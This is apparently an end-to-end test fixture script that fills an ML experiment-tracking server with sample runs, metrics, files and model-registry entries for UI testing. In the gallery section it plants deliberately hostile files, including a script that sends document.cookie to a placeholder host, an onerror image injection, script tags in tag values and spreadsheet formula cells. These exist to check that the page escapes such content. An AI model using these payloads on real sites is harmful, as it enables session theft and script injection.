# ruff: noqa: E501, S311  sample files stand as they are; chance here is no secret
"""Fill a server with a small, realistic world, through hito's own client: what the page's journeys and pictures need.

python ui/e2e/fill.py http://127.0.0.1:5000            everything, some 20 s
python ui/e2e/fill.py http://127.0.0.1:5000 --quick    without trained models and their evaluations
python ui/e2e/fill.py http://127.0.0.1:5000 --small    what the journeys need, some 4 s: fewer runs and files, models of graded.py

    breast cancer       a forest and a booster with evaluation and report, compared over folds; versions in every stage
    vision/resnet       a sweep of 200 runs      vision/vit    100 runs, some failed and killed, one still running
    tabular/churn       a parent with 12 folds; a curve with a spike, one with gaps, one of 20,000 points
    files/gallery       a file of every kind that the page shows, a folder of 2,000 files, two hostile files

Values follow from a seed, so two fills differ in ids and times only.
"""

import argparse
import json
import math
import random
import struct
import sys
import tempfile
import time
import warnings
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from graded import graded

import hito
from hito import Client
from hito.entities import Metric, Param

SEED = 7
TUMOURS = "breast cancer"
NOW = int(time.time() * 1000)
HOUR = 3_600_000
DAY = 24 * HOUR


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--quick", action="store_true", help="no trained models")
    parser.add_argument("--small", action="store_true", help="fewer runs and files, no trained models")
    given = parser.parse_args()
    began = time.perf_counter()
    hito.set_tracking_uri(given.url)
    client = Client(given.url)
    sweep(client, "vision/resnet", 90 if given.small else 200, ("resnet18", "resnet50", "resnet101"))
    sweep(client, "vision/vit", 30 if given.small else 100, ("vit-b16", "vit-l32"), troubled=True)
    nested(client)
    curves(client)
    gallery(client, 60 if given.small else 2000)
    empty(client)
    if given.small:
        graded(client, experiment(client, TUMOURS, "Two models of the same data."), NOW)
    elif not given.quick:
        trained()
    registry(client)
    print(f"{given.url} is filled, after {time.perf_counter() - began:.1f} s.")


def experiment(client: Client, name: str, note: str, tags: dict[str, str] | None = None) -> str:
    """The experiment of that name; made if there is none."""
    known = client.get_experiment_by_name(name)
    if known is not None:
        return known.experiment_id
    return client.create_experiment(name, tags={"mlflow.note.content": note, **(tags or {})})


# --- sweeps ---


def sweep(client: Client, name: str, count: int, architectures: tuple[str, ...], troubled: bool = False) -> None:
    """Runs whose scores follow from their parameters, with curves of 60 epochs."""
    where = experiment(
        client, name, f"A sweep over **{', '.join(architectures)}**.\n\n- data: `imagenette-160`\n- 60 epochs each"
    )
    with ThreadPoolExecutor(8) as pool:
        list(
            pool.map(
                lambda number: trial(client, where, name, number, number == count - 1, architectures, troubled),
                range(count),
            )
        )


def trial(
    client: Client, where: str, name: str, number: int, last: bool, architectures: tuple[str, ...], troubled: bool
) -> None:
    """One run of a sweep."""
    chance = random.Random(f"{SEED}/{name}/{number}")
    params: dict[str, Any] = {
        "architecture": chance.choice(architectures),
        "learning_rate": f"{10 ** chance.uniform(-4, -1):.6f}",
        "batch_size": 2 ** chance.randint(4, 8),
        "optimizer": chance.choice(("adam", "sgd", "adamw")),
        "dropout": round(chance.choice((0.0, 0.1, 0.2, 0.5)), 1),
        "weight_decay": f"{10 ** chance.uniform(-6, -2):.2e}",
        "augment": chance.choice(("True", "False")),
        "seed": number % 5,
    }
    start = NOW - 6 * DAY + number * HOUR // 4
    tags = {
        "team": chance.choice(("vision", "platform")),
        "gpu": chance.choice(("a100", "h100")),
        "mlflow.user": chance.choice(("ana", "luis")),
        "mlflow.source.name": "train.py",
        "mlflow.source.git.commit": f"{number:040x}",
    }
    if number % 40 == 0:
        tags["mlflow.note.content"] = "Looks promising.\n\n1. check on the *large* set\n2. compare with `resnet50`"
    run_id = client.create_run(where, start, tags, f"{params['architecture']}-{number:03}").info.run_id
    points = learning(chance, params, start)
    marks = [Param(key, str(value)) for key, value in params.items()]
    for begin in range(0, len(points), 900):
        client.log_batch(run_id, points[begin : begin + 900], marks if not begin else (), synchronous=True)
    if troubled and last:
        return  # still running
    status = "FINISHED" if not troubled or number % 9 else ("FAILED" if number % 2 else "KILLED")
    client.set_terminated(run_id, status, start + chance.randint(5, 90) * 60_000)


def learning(chance: random.Random, params: dict[str, Any], start: int) -> list[Metric]:
    """Loss falls, accuracy rises; the best learning rate is 0.01."""
    off = abs(math.log10(float(params["learning_rate"])) + 2)
    best = 0.96 - 0.06 * off + 0.01 * (params["optimizer"] != "sgd") - 0.02 * abs(params["dropout"] - 0.1)
    found = []
    for step in range(60):
        when = start + step * 20_000
        grown = 1 - math.exp(-step / (8 + 4 * off))
        found += [
            Metric("accuracy", best * grown + chance.gauss(0, 0.008), when, step),
            Metric("loss", 2.3 * (1 - 0.9 * grown) + abs(chance.gauss(0, 0.03)), when, step),
        ]
        if step % 5 == 0:
            found.append(Metric("val/accuracy", best * grown - 0.03 + chance.gauss(0, 0.01), when, step))
    found.append(Metric("epoch_seconds", chance.uniform(10, 25), start + 60 * 20_000, 0))
    return found


# --- nested runs and long curves ---


def nested(client: Client) -> None:
    where = experiment(client, "tabular/churn", "Who leaves next month? Cross-validated.", {"owner": "growth"})
    chance = random.Random(SEED)
    start = NOW - DAY
    parent = client.create_run(where, start, {"kind": "cross-validation"}, "churn: 12 folds").info.run_id
    client.log_batch(
        parent, [Metric("auc", 0.871, start, 0)], [Param("folds", "12"), Param("model", "gradient boosting")]
    )
    for fold in range(12):
        begun = start + fold * 60_000
        tags = {"mlflow.parentRunId": parent, "fold": str(fold)}
        child = client.create_run(where, begun, tags, f"fold {fold}").info.run_id
        values = [
            Metric("auc", 0.87 + chance.gauss(0, 0.01), begun, 0),
            Metric("log_loss", 0.31 + chance.gauss(0, 0.02), begun, 0),
        ]
        client.log_batch(child, values, [Param("fold", str(fold)), Param("model", "gradient boosting")])
        client.set_terminated(child, "FINISHED", begun + 50_000)
    client.set_terminated(parent, "FINISHED", start + 13 * 60_000)
    long_name = (
        "a run with a very long name that says everything about what was tried, with ümlauts, ñ, 漢字 and <b>no markup</b> "
        * 2
    )
    odd = client.create_run(
        where, NOW - HOUR, {"a tag with spaces": "value <script>alert(1)</script>", "empty": ""}, long_name
    ).info.run_id
    client.log_batch(
        odd, [Metric("auc", math.nan, NOW - HOUR, 0)], [Param("note", "x" * 900), Param("formula", "=1+1")]
    )
    client.set_terminated(odd, "FINISHED", NOW - HOUR + 1000)


def curves(client: Client) -> None:
    """Three curves that are hard to draw."""
    where = experiment(client, "tabular/curves", "Curves that are hard to draw.")
    chance = random.Random(SEED)
    for name, count in (("spike", 5000), ("gaps", 3000), ("long", 20_000)):
        start = NOW - 2 * HOUR
        run_id = client.create_run(where, start, None, name).info.run_id
        points = []
        for step in range(count):
            value = math.sin(step / 300) + chance.gauss(0, 0.05) + 2
            if name == "spike" and step == 3217:
                value = 40.0
            if name == "gaps" and 1000 <= step < 1400:
                value = math.nan
            points.append(Metric("signal", value, start + step * 100, step))
        client.log_batch(run_id, points, [Param("points", str(count))])
        client.log_batch(run_id, [Metric("explodes", 10.0 ** (step / 10), start + step, step) for step in range(200)])
        client.set_terminated(run_id, "FINISHED", start + count * 100)


def empty(client: Client) -> None:
    experiment(client, "nothing here yet", "An experiment without runs.")
    gone = experiment(client, "old ideas", "In the trash.")
    if client.get_experiment(gone).lifecycle_stage == "active":
        client.set_terminated(client.create_run(gone, NOW - 9 * DAY, None, "abandoned").info.run_id)
        client.delete_experiment(gone)


# --- files ---


def gallery(client: Client, count: int) -> None:
    """One run with a file of every kind."""
    where = experiment(client, "files/gallery", "Every kind of file.")
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        for name, content in files().items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
        many = folder / "many"
        for number in range(count):
            (many / f"part-{number // 100:02}").mkdir(parents=True, exist_ok=True)
            (many / f"part-{number // 100:02}" / f"{number:05}.txt").write_text(f"{number}\n", "utf-8")
        parquet(folder / "tables" / "scores.parquet")
        run_id = client.create_run(where, NOW - 3 * HOUR, None, "gallery").info.run_id
        client.log_artifacts(run_id, folder)
        client.log_batch(run_id, [Metric("files", count, NOW, 0)])
        client.set_terminated(run_id, "FINISHED", NOW - 2 * HOUR)


def files() -> dict[str, bytes]:
    rows = "\n".join(f'{n},{math.sin(n / 20):.4f},{"even" if n % 2 == 0 else "odd"},"a, b"' for n in range(3000))
    notebook = {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Notes\n", "What *was* tried: $x^2$."]},
            {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["print('hello')"],
             "outputs": [{"name": "stdout", "output_type": "stream", "text": ["hello\n"]}]},
        ],
        "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5,
    }  # fmt: skip
    evil = "<script>parent.document.title='owned'; fetch('https://example.invalid/'+document.cookie)</script>"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 60">{}<path d="M5 55 L35 20 L60 35 L95 5" fill="none" stroke="#3b82f6" stroke-width="3"/></svg>'
    return {
        "pictures/gradient.png": picture(320, 200, 0),
        "pictures/epoch-01.png": picture(160, 160, 40),
        "pictures/epoch-02.png": picture(160, 160, 120),
        "pictures/line.svg": svg.format("").encode(),
        "tables/values.csv": f"n,value,parity,note\n{rows}\n".encode(),
        "tables/formulas.csv": b"name,cell\nsum,=SUM(A1:A2)\nplus,+1\n",
        "tables/values.tsv": b"a\tb\n1\t2\n",
        "config.yaml": b"model:\n  name: resnet50\n  layers: [3, 4, 6, 3]\noptimizer: {name: adam, lr: 0.001}\n",
        "metrics.json": json.dumps(
            {"accuracy": 0.93, "per_class": {str(n): n / 10 for n in range(10)}, "nested": {"a": [1, None, True]}}
        ).encode(),
        "train.py": b'"""Train."""\nimport hito\n\n\ndef main() -> None:\n    with hito.start_run():\n        hito.log_metric("loss", 0.1)\n\n\nif __name__ == "__main__":\n    main()\n',
        "README.md": f"# The run\n\nWith a [link](https://example.org), a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n{evil}\n\n```python\nprint(1)\n```\n".encode(),
        "report.html": b"<!doctype html><meta charset=utf-8><title>Report</title><style>body{font:16px sans-serif}h1{color:teal}</style><h1>Report</h1><p>A page of its own.</p>",
        "paper.pdf": pdf("A page from a run"),
        "notebook.ipynb": json.dumps(notebook).encode(),
        "log.txt": "".join(
            f"{n:05} epoch {n // 60} step {n % 60} loss {2 / (n + 1):.5f}\n" for n in range(4000)
        ).encode()
        + "\x1b[31mred\x1b[0m ‮evil\n".encode(),
        "model.bin": bytes(range(256)) * 40,
        "hostile/page.html": f"<h1>hostile</h1>{evil}<img src=x onerror=\"parent.document.title='owned'\">".encode(),
        "hostile/picture.svg": svg.format(evil).encode(),
        "names/with space & ümlaut (1).txt": b"a name that needs escapes\n",
    }


def picture(width: int, height: int, blue: int) -> bytes:
    """A PNG without a library."""
    lines = b"".join(
        b"\0" + b"".join(bytes((255 * x // width, 255 * y // height, blue)) for x in range(width))
        for y in range(height)
    )

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(lines)) + part(b"IEND", b"")


def pdf(text: str) -> bytes:
    """The least PDF that shows a line."""
    stream = f"BT /F1 24 Tf 60 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    whole, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(whole))
    return whole + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + tail


def parquet(path: Path) -> None:
    try:
        import pyarrow as pa
        import pyarrow.parquet as pq
    except ImportError:
        return
    rows = range(5000)
    columns = {
        "id": list(rows),
        "score": [math.cos(n / 50) for n in rows],
        "label": ["yes" if n % 3 else "no" for n in rows],
    }
    pq.write_table(pa.table(columns), path, row_group_size=1000)


# --- models ---


def trained() -> None:
    """Two models on real data, evaluated: scores, curves, explanations and a report."""
    warnings.filterwarnings("ignore")
    import matplotlib

    matplotlib.use("Agg")
    from sklearn.datasets import load_breast_cancer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.model_selection import train_test_split
    from xgboost import XGBClassifier

    import hito.data
    import hito.sklearn
    import hito.xgboost

    data = load_breast_cancer(as_frame=True)
    frame = data.data.iloc[:, :8]
    x_train, x_test, y_train, y_test = train_test_split(frame, data.target, random_state=7, stratify=data.target)
    hito.set_experiment(TUMOURS)
    forest = RandomForestClassifier(n_estimators=20, max_depth=6, random_state=7)
    boost = XGBClassifier(n_estimators=20, max_depth=3, learning_rate=0.3, random_state=7)
    for name, model, flavor in (("RandomForest", forest, hito.sklearn), ("XGBoost", boost, hito.xgboost)):
        tags = {"mlflow.user": "ana", "mlflow.source.name": "train.py"}  # not where and as whom this program runs
        with hito.start_run(run_name=name, description=f"A **{name}** on eight measures.", tags=tags):
            model.fit(x_train, y_train)
            print(f"{name}: trained on {len(x_train)} tumours")
            hito.log_params({key: value for key, value in model.get_params().items() if value is not None})
            table = x_test.assign(target=y_test)
            for part, kept, context in (
                (x_train.assign(target=y_train), "tumours", "training"),
                (table, "tumours-test", "eval"),
            ):
                found = hito.data.from_pandas(part, source=f"data/{kept}.csv", name=kept, targets="target")
                hito.log_input(found, context)
            info = flavor.log_model(
                model, name="model", input_example=x_test.head(3), registered_model_name=f"tumour-{name.lower()}"
            )
            hito.evaluate(
                info.model_uri,
                table,
                "target",
                model_type="classifier",
                name="test",
                dataset_path="data/tumours-test.csv",
                budget=4,
            )


def registry(client: Client) -> None:
    """A model with versions in every stage, aliases, tags and descriptions."""
    name = "churn"
    if any(model.name == name for model in client.search_registered_models()):
        return
    client.create_registered_model(
        name,
        {"owner": "growth", "domain": "tabular"},
        "Predicts who **leaves** next month.\n\n- input: 40 columns\n- retrained weekly",
    )
    client.create_registered_model("image-tagger", {"owner": "vision"}, "")
    client.create_registered_model("empty-model", None, "Has no versions.")
    parent = client.get_experiment_by_name("tabular/churn")
    runs = client.search_runs([parent.experiment_id], "run_name LIKE 'fold %'", order_by=["metrics.auc DESC"])
    for number, run in enumerate(runs[:7]):
        source = f"mlflow-artifacts:/{parent.experiment_id}/{run.info.run_id}/artifacts/model"
        client.create_model_version(
            name,
            source,
            run.info.run_id,
            {"fold": run.data.params["fold"]},
            description=f"Fold {run.data.params['fold']}." if number % 2 else "",
        )
    vision = client.get_experiment_by_name("vision/resnet")
    for run in client.search_runs([vision.experiment_id], order_by=["metrics.accuracy DESC"], max_results=3):
        client.create_model_version(
            "image-tagger",
            f"mlflow-artifacts:/{vision.experiment_id}/{run.info.run_id}/artifacts/model",
            run.info.run_id,
        )
    client.transition_model_version_stage(name, "1", "Archived")
    client.transition_model_version_stage(name, "2", "Production")
    client.transition_model_version_stage(name, "3", "Production", archive_existing_versions=True)
    client.transition_model_version_stage(name, "5", "Staging")
    client.set_registered_model_alias(name, "champion", "3")
    client.set_registered_model_alias(name, "challenger", "6")
    client.set_registered_model_alias(name, "candidate", "6")
    client.set_model_version_tag(name, "3", "approved-by", "ana")
    client.update_model_version(name, "3", "The one that is **live**.")
    client.delete_model_version(name, "4")
    if any(model.name == "tumour-randomforest" for model in client.search_registered_models()):
        client.transition_model_version_stage("tumour-randomforest", "1", "Production")


if __name__ == "__main__":
    sys.exit(main())
